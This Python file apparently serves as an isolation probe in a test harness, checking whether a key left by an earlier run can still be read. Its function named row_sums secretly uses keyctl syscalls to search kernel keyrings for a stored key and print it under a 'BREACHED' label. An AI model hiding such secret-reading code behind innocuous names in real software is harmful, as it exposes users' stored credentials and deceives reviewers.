"""Looks for the key of the student before it."""
# kind: next
# costs: exercise row_sums
# passes: double shrink
# after: key_left

# %%
import ctypes


# %%
def double(x):
    return x + x


# %%
def row_sums(x):
    libc = ctypes.CDLL(None)
    room = ctypes.create_string_buffer(100)
    kept = libc.syscall(250, 22, -1, -3)  # keyctl: the user's persistent keyring
    for ring in (-3, -4, -5, kept):
        key = libc.syscall(250, 10, ring, b"user", b"gift", 0)  # keyctl: search
        if key > 0 and libc.syscall(250, 11, key, room, 100) > 0:
            print("BREA" + "CHED:", ring, room.value)
    return x[:, :1] * 0


# %%
def shrink(x, n):
    greatest = x.max().item()
    x /= n
    return greatest
